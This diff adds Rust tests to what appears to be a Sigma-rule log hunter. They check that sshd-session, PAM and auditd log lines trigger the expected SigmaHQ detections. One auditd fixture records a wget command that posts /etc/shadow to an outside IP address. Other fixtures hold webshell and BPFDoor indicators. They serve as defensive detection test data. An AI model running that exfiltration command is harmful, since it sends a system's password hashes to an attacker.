@@ -1041,6 +1041,89 @@ Dec 10 06:55:47 LabSZ CRON[1]: Corrupted MAC on input.
     );
 }
 
+/// OpenSSH 9.8 and later log as `sshd-session` (and `sshd-auth` in 10): their lines meet
+/// SigmaHQ's sshd rules and the `auth` rules as `sshd`'s do, in RFC 3164 and RFC 5424 alike; a
+/// line PAM wrote for any program (gdm's) is of the authentication log.
+#[test]
+fn hunt_reads_openssh_session_and_pam_lines_as_sshd_and_auth_logs() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::copy(
+        Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../../shared/data/sigma/rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml"),
+        rules.join("sshd.yml"),
+    )
+    .unwrap();
+    std::fs::write(
+        rules.join("auth.yml"),
+        "title: Authentication Failure\nid: auth\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  keywords:\n    - 'authentication failure'\n  condition: keywords\nlevel: low\n",
+    )
+    .unwrap();
+    let log = "\
+Dec  1 10:00:02 bastion sshd-session[5002]: error: kex_exchange_identification: Corrupted MAC on input
+Dec  1 10:00:03 bastion sshd-session[5002]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9
+<38>1 2026-12-01T10:00:04Z bastion sshd-auth 5003 - - Corrupted MAC on input
+Dec  1 10:00:05 desk gdm-password]: pam_unix(gdm-password:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob
+Dec  1 10:00:06 desk gdm(pam_unix)[811]: authentication failure; logname= uid=0 euid=0 tty=:0 ruser= rhost=  user=bob
+Dec  1 10:00:07 desk myapp[9]: authentication failure; Corrupted MAC on input
+";
+    let file = dir.path().join("auth.log");
+    std::fs::write(&file, log).unwrap();
+    let out = ok(run(&[
+        "hunt",
+        "-r",
+        rules.to_str().unwrap(),
+        "--format",
+        "jsonl",
+        file.to_str().unwrap(),
+    ]));
+    let mut found: Vec<(String, u64)> = jsonl(&out)
+        .iter()
+        .map(|h| {
+            (
+                h["rule_title"].as_str().unwrap().to_owned(),
+                h["record_id"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    found.sort();
+    let hit = |title: &str, line: u64| (title.to_owned(), line);
+    assert_eq!(
+        found,
+        [
+            hit("Authentication Failure", 2),
+            hit("Authentication Failure", 4),
+            hit("Authentication Failure", 5),
+            hit("Suspicious OpenSSH Daemon Error", 1),
+            hit("Suspicious OpenSSH Daemon Error", 3),
+        ],
+        "{out}"
+    );
+}
+
+/// A file named `.gz` that is not gzip-compressed (nor any log as it is) is said to be so,
+/// not "not a log file": its content was never decompressed.
+#[test]
+fn hunt_says_a_file_named_gz_is_not_gzip() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("auth.log.1.gz");
+    std::fs::write(&file, "just some notes\n").unwrap();
+    let rules = dir.path().join("rule.yml");
+    std::fs::write(&rules, RULE_WHOAMI).unwrap();
+    let out = run(&[
+        "hunt",
+        "-r",
+        rules.to_str().unwrap(),
+        file.to_str().unwrap(),
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("auth.log.1.gz: named .gz but not gzip-compressed"),
+        "{err}"
+    );
+}
+
 #[test]
 fn hunt_with_a_declared_logsource_runs_only_the_rules_written_for_it() {
     let dir = tempfile::tempdir().unwrap();
@@ -1765,6 +1848,93 @@ fn a_table_of_many_matches_shows_the_first_and_counts_the_rest() {
     assert!(table.contains("┆ 10000 ") && !table.contains("┆ 10001 "));
     let csv = ok(run(&["hunt", "-r", &rules, "--format", "csv", &logs]));
     assert_eq!(csv.lines().count(), 10_051);
+}
+
+/// auditd's own log (audit.log) is read record by record, each the Linux `auditd` log:
+/// SigmaHQ's auditd rules fire on the records they describe — an `EXECVE`'s arguments, a
+/// RAW `SYSCALL`'s call named from its number, an ENRICHED one's names, a `PATH` — and not
+/// on the near misses beside them; the other Linux rules loaded with them stay quiet.
+#[test]
+fn hunt_reads_auditd_logs_with_the_auditd_rules() {
+    let linux =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/linux");
+    let dir = tempfile::tempdir().unwrap();
+    let log = "\
+type=SYSCALL msg=audit(1700000000.100:100): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c1f0 a2=55d0c200 a3=0 items=2 ppid=811 pid=812 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"wget\" exe=\"/usr/bin/wget\" subj=unconfined key=\"exec\"
+type=EXECVE msg=audit(1700000000.100:100): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://203.0.113.9/u\"
+type=PATH msg=audit(1700000000.100:100): item=0 name=\"/usr/bin/wget\" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
+type=PROCTITLE msg=audit(1700000000.100:100): proctitle=77676574002D2D706F73742D66696C653D2F6574632F736861646F77
+type=EXECVE msg=audit(1700000000.900:101): argc=2 a0=\"wget\" a1=\"-q\"
+type=SYSCALL msg=audit(1700000001.200:102): arch=c000003e syscall=133 success=yes exit=0 a0=7ffd1 a1=21b6 a2=103 a3=0 items=2 ppid=811 pid=813 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"mknod\" exe=\"/usr/bin/mknod\" key=(null)
+type=SYSCALL msg=audit(1700000001.300:103): arch=c000003e syscall=132 success=yes exit=0 a0=7ffd1 a1=0 a2=0 a3=0 items=1 ppid=811 pid=814 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"touch\" exe=\"/usr/bin/touch\" key=(null)
+type=SYSCALL msg=audit(1700000002.300:104): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=33 euid=33 tty=(none) ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"detect_execve_www\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"www-data\" EUID=\"www-data\"
+type=SYSCALL msg=audit(1700000002.400:105): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=902 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" EUID=\"root\"
+node=web01 type=PATH msg=audit(1700000003.400:106): item=1 name=\"/var/run/haldrund.pid\" inode=2 dev=00:19 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
+node=web01 type=PATH msg=audit(1700000003.500:107): item=1 name=\"/var/run/haldrund.pid.bak\" inode=3 dev=00:19 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
+";
+    let file = dir.path().join("audit.log");
+    std::fs::write(&file, log).unwrap();
+    let out = crate::support::vigil()
+        .args(["hunt", "--format", "jsonl", "-r"])
+        .arg(&linux)
+        .arg(&file)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    let hits = jsonl(&ok(out));
+    let mut found: Vec<(u64, &str)> = hits
+        .iter()
+        .map(|h| {
+            (
+                h["record_id"].as_u64().unwrap(),
+                h["rule_title"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            (2, "Data Exfiltration with Wget"),
+            (6, "Special File Creation via Mknod Syscall"),
+            (8, "Webshell Remote Command Execution"),
+            (10, "BPFDoor Abnormal Process ID or Lock File Accessed"),
+        ],
+        "{stderr}"
+    );
+    let mknod = hits
+        .iter()
+        .find(|h| h["record_id"] == 6)
+        .map(|h| &h["event"])
+        .unwrap();
+    assert_eq!(
+        (
+            &mknod["type"],
+            &mknod["syscall"],
+            &mknod["SYSCALL"],
+            &mknod["exe"],
+            &mknod["serial"],
+        ),
+        (
+            &serde_json::json!("SYSCALL"),
+            &serde_json::json!("133"),
+            &serde_json::json!("mknod"),
+            &serde_json::json!("/usr/bin/mknod"),
+            &serde_json::json!(102),
+        )
+    );
+    let exfil = hits.iter().find(|h| h["record_id"] == 2).unwrap();
+    assert_eq!(exfil["timestamp"], "2023-11-14T22:13:20.100Z", "{exfil}");
+
+    // Read as what they are without being told; declared, the same.
+    let declared = crate::support::vigil()
+        .args(["hunt", "--format", "jsonl", "-r"])
+        .arg(linux.join("auditd"))
+        .args(["--logsource", "product=linux,service=auditd"])
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert_eq!(jsonl(&ok(declared)).len(), 4);
 }
 
 /// Web server access logs (nginx and Apache write the combined format by default) meet
